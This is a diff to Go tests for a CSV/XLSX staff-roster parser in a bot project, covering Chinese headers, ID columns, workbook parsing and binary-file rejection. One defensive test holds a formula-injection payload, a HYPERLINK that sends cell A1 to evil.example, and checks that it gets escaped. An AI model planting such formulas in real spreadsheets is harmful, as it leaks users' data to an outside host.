@@ -12,7 +12,9 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
+	"github.com/xuri/excelize/v2"
 	"golang.org/x/text/encoding/simplifiedchinese"
 
 	"campaignbot"
@@ -29,7 +31,7 @@ var (
 // Chinese and English role names, quoted lists and empty fields.
 func sampleRoster() string {
 	var b strings.Builder
-	b.WriteString(roster.Header + "\n")
+	b.WriteString(legacyHeader + "\n")
 	for i := range 30 {
 		name := surnames[i%10] + given[i/10]
 		dept := depts[i%5]
@@ -154,7 +156,7 @@ func TestParseChineseRoleNames(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.roles, func(t *testing.T) {
-			src := roster.Header + "\n李四,计划科," + tt.roles + ",,,\n"
+			src := legacyHeader + "\n李四,计划科," + tt.roles + ",,,\n"
 			entries, err := roster.Parse("roster.csv", strings.NewReader(src))
 			if err != nil {
 				t.Fatal(err)
@@ -196,7 +198,7 @@ func TestParseBadLine(t *testing.T) {
 }
 
 func TestParseErrors(t *testing.T) {
-	h := roster.Header + "\n"
+	h := legacyHeader + "\n"
 	long := strings.Repeat("长", 65)
 	tests := []struct {
 		name string
@@ -206,9 +208,9 @@ func TestParseErrors(t *testing.T) {
 		{"empty file", "", []string{"f.csv:1: the file is empty"}},
 		{"only spaces", " \r\n\r\n", []string{"f.csv:1: the file is empty"}},
 		{"header only", h, []string{"f.csv:1: no people"}},
-		{"wrong header", "姓名,科室,角色,telegram,wecom,in_charge_of\n张三,计划科,member,,,\n",
-			[]string{`f.csv:1: the header is "姓名,科室,角色,telegram,wecom,in_charge_of", expected "name,department,roles,telegram,wecom,in_charge_of"`}},
-		{"missing column", "name,department,roles,telegram,wecom\n", []string{"f.csv:1: the header is"}},
+		{"wrong header", "名称,科室,角色,telegram,wecom,in_charge_of\n张三,计划科,member,,,\n",
+			[]string{`f.csv:1: the header is "名称,科室,角色,telegram,wecom,in_charge_of", expected "id,name,department,roles,telegram,wecom,in_charge_of,team" or "工号,姓名,科室,角色,Telegram,企业微信,分管科室,帮扶组"`}},
+		{"missing column", "name,department,telegram,wecom\n", []string{"f.csv:1: the header is \"name,department,telegram,wecom\" and has no roles column"}},
 		{"duplicate name", h + "张三,计划科,member,,,\n李四,计划科,member,,,\n张三,办公室,office,,,\n",
 			[]string{`f.csv:4: duplicate name "张三" (also on line 2)`}},
 		{"duplicate chat accounts", h + "张三,计划科,member,@zhang_san,zhangsan,\n李四,计划科,member,,zhangsan,\n王五,计划科,member,Zhang_San,,\n",
@@ -222,7 +224,7 @@ func TestParseErrors(t *testing.T) {
 		{"bad wecom", h + "张三,计划科,member,,zhang san,\n", []string{`f.csv:2: wecom "zhang san" is not a WeCom UserID`}},
 		{"in charge for member", h + "张三,计划科,member,,,办公室\n", []string{"f.csv:2: in_charge_of is only for leaders and heads"}},
 		{"bare quote", h + "张\"三,计划科,member,,,\n", []string{"f.csv:2: a quote"}},
-		{"invalid GBK", roster.Header + "\n\xff\xfe\xfd,计划科,member,,,\n", []string{"f.csv:2: invalid characters"}},
+		{"invalid GBK", legacyHeader + "\n\xff\xfe\xfd,计划科,member,,,\n", []string{"f.csv:2: invalid characters"}},
 		{"control character", h + "张\x01三,计划科,member,,,\n", []string{"f.csv:2: name \"张\\x01三\" contains control"}},
 	}
 	for _, tt := range tests {
@@ -274,7 +276,7 @@ func TestParseCRLFAndQuotes(t *testing.T) {
 }
 
 func TestParseLeaderDefaultsToOwnDepartment(t *testing.T) {
-	src := roster.Header + "\n钱九,农村科技科,leader,,,\n"
+	src := legacyHeader + "\n钱九,农村科技科,leader,,,\n"
 	entries, err := roster.Parse("r.csv", strings.NewReader(src))
 	if err != nil {
 		t.Fatal(err)
@@ -303,7 +305,7 @@ func TestWriteRoundTrip(t *testing.T) {
 	if err := roster.Write(&buf, people, roster.WithDepartments(depts)); err != nil {
 		t.Fatal(err)
 	}
-	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFFname,department,roles,telegram,wecom,in_charge_of\r\n")) {
+	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFFid,name,department,roles,telegram,wecom,in_charge_of,team\r\n")) {
 		t.Errorf("output starts %q, want BOM and header", buf.String()[:40])
 	}
 	entries, err := roster.Parse("list.csv", &buf)
@@ -329,18 +331,19 @@ func TestTable(t *testing.T) {
 		want string
 	}{
 		{"zh", "" +
-			"姓名        科室    角色                Telegram   企业微信  分管科室        无法送达\n" +
-			"孙七        计划科  班子成员、党员干部  sun_seven  sun7      计划科、空科室  telegram\n" +
-			"Zhou, \"Ba\"  办公室  领导小组办公室      12345      —         —               —\n"},
+			"工号  姓名        科室    角色                Telegram   企业微信  分管科室        帮扶组  已绑定           无法送达\n" +
+			"—     孙七        计划科  班子成员、党员干部  sun_seven  sun7      计划科、空科室  —       telegram、wecom  telegram\n" +
+			"—     Zhou, \"Ba\"  办公室  领导小组办公室      12345      —         —               —       未绑定           —\n"},
 		{"en", "" +
-			"name        department  roles           telegram   wecom  in charge of    unreachable\n" +
-			"孙七        计划科      leader, member  sun_seven  sun7   计划科, 空科室  telegram\n" +
-			"Zhou, \"Ba\"  办公室      office          12345      -      -               -\n"},
+			"id  name        department  roles           telegram   wecom  in charge of    team  bound            unreachable\n" +
+			"-   孙七        计划科      leader, member  sun_seven  sun7   计划科, 空科室  -     telegram, wecom  telegram\n" +
+			"-   Zhou, \"Ba\"  办公室      office          12345      -      -               -     not bound        -\n"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.lang, func(t *testing.T) {
 			var buf bytes.Buffer
-			if err := roster.Table(&buf, people, tt.lang, roster.WithDepartments(depts)); err != nil {
+			bound := map[int64][]campaignbot.Platform{people[0].ID: {campaignbot.PlatformTelegram, campaignbot.PlatformWeCom}}
+			if err := roster.Table(&buf, people, tt.lang, roster.WithDepartments(depts), roster.WithBindings(bound)); err != nil {
 				t.Fatal(err)
 			}
 			if got := buf.String(); got != tt.want {
@@ -364,10 +367,10 @@ func TestDisplayWidth(t *testing.T) {
 
 func FuzzParse(f *testing.F) {
 	f.Add([]byte(sampleRoster()))
-	f.Add([]byte(roster.Header + "\r\n张三,计划科,\"member;leader\",@abcde,zs,计划科\r\n"))
-	f.Add([]byte(roster.Header + "\n\"a\"b,c\n"))
+	f.Add([]byte(legacyHeader + "\r\n张三,计划科,\"member;leader\",@abcde,zs,计划科\r\n"))
+	f.Add([]byte(legacyHeader + "\n\"a\"b,c\n"))
 	f.Add([]byte(""))
-	f.Add([]byte("\xEF\xBB\xBF" + roster.Header + "\n\xd5\xc5\xc8\xfd,x,member,,,\n"))
+	f.Add([]byte("\xEF\xBB\xBF" + legacyHeader + "\n\xd5\xc5\xc8\xfd,x,member,,,\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		entries, err := roster.Parse("fuzz.csv", bytes.NewReader(data))
 		if err != nil {
@@ -416,10 +419,10 @@ func TestWriteEscapesFormulas(t *testing.T) {
 			}
 		}
 	}
-	if got, want := recs[1][0], `'=HYPERLINK("http://evil.example/?"&A1,"点击")`; got != want {
+	if got, want := recs[1][1], `'=HYPERLINK("http://evil.example/?"&A1,"点击")`; got != want {
 		t.Errorf("name cell %q, want %q", got, want)
 	}
-	if got := recs[6][0]; got != "普通姓名" {
+	if got := recs[6][1]; got != "普通姓名" {
 		t.Errorf("a plain name is written as %q", got)
 	}
 	// Tab and control characters are refused by Parse; the rest read back.
@@ -435,6 +438,91 @@ func TestWriteEscapesFormulas(t *testing.T) {
 	for i, e := range entries {
 		if want := kept[i].Name; e.Name != want || e.Departments[0] != "=1+1科" || e.Telegram != strings.TrimPrefix(kept[i].Telegram, "@") {
 			t.Errorf("entry %d read back as %q %v %q, want %q", i, e.Name, e.Departments, e.Telegram, want)
+		}
+	}
+}
+
+// legacyHeader is the first edition's header, which Parse still reads.
+const legacyHeader = "name,department,roles,telegram,wecom,in_charge_of"
+
+// TestParseChineseHeaderIDAndTeam reads the header as the office types it
+// in Chinese, with an id column that lets two 王芳 of different 科室 in.
+func TestParseChineseHeaderIDAndTeam(t *testing.T) {
+	src := "工号,姓名,科室,角色,Telegram,企业微信,分管科室,帮扶组\n" +
+		"A001,王芳,计划科,member,,wangfang1,,政策宣传组\n" +
+		"A002,王芳,人事科,member,,wangfang2,,困难帮扶组\n" +
+		"A003,李强,计划科,leader,,,,\n"
+	entries, err := roster.Parse("r.csv", strings.NewReader(src))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(entries) != 3 {
+		t.Fatalf("%d entries, want 3", len(entries))
+	}
+	if e := entries[1]; e.ID != "A002" || e.Name != "王芳" || e.Departments[0] != "人事科" || e.WeCom != "wangfang2" || e.Team != "困难帮扶组" {
+		t.Errorf("second 王芳 = %+v", e)
+	}
+	if roster.Key(&entries[0]) == roster.Key(&entries[1]) {
+		t.Errorf("two 王芳 with ids share the key %q", roster.Key(&entries[0]))
+	}
+}
+
+// TestParseColumnsInAnyOrder takes the header's order, without the
+// optional columns.
+func TestParseColumnsInAnyOrder(t *testing.T) {
+	entries, err := roster.Parse("r.csv", strings.NewReader("角色,姓名,科室\nmember,张三,计划科\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if e := entries[0]; e.Name != "张三" || e.Departments[0] != "计划科" || e.Roles[0] != campaignbot.RoleMember {
+		t.Errorf("entry = %+v", e)
+	}
+}
+
+// TestParseXLSX reads the first sheet of a workbook saved by a spreadsheet,
+// its rows ending at the last filled cell.
+func TestParseXLSX(t *testing.T) {
+	f := excelize.NewFile()
+	rows := [][]any{
+		{"工号", "姓名", "科室", "角色", "Telegram", "企业微信", "分管科室", "帮扶组"},
+		{"001", "王芳", "计划科", "党员"},
+		{"002", "王芳", "人事科", "member", "", "wf2", "", "创新服务组"},
+	}
+	for i, r := range rows {
+		cell, _ := excelize.CoordinatesToCellName(1, i+1)
+		if err := f.SetSheetRow("Sheet1", cell, &r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var buf bytes.Buffer
+	if err := f.Write(&buf); err != nil {
+		t.Fatal(err)
+	}
+	entries, err := roster.Parse("roster.xlsx", &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(entries) != 2 || entries[0].ID != "001" || entries[1].WeCom != "wf2" || entries[1].Team != "创新服务组" || entries[1].Line != 3 {
+		t.Errorf("entries = %+v", entries)
+	}
+}
+
+// TestParseRefusesBinaryFiles names what the file is instead of dumping
+// its bytes.
+func TestParseRefusesBinaryFiles(t *testing.T) {
+	for name, data := range map[string][]byte{
+		"old.xls":   append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 64)...),
+		"photo.jpg": []byte("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01"),
+		"bad.xlsx":  []byte("PK\x03\x04not really a zip"),
+	} {
+		_, err := roster.Parse(name, bytes.NewReader(data))
+		if err == nil {
+			t.Errorf("%s: no error", name)
+			continue
+		}
+		msg := err.Error()
+		if !strings.Contains(msg, "xlsx") || !utf8.ValidString(msg) || strings.ContainsRune(msg, 0) || strings.Contains(msg, "JFIF") {
+			t.Errorf("%s: error %q does not say to save as xlsx, or dumps bytes", name, msg)
 		}
 	}
 }
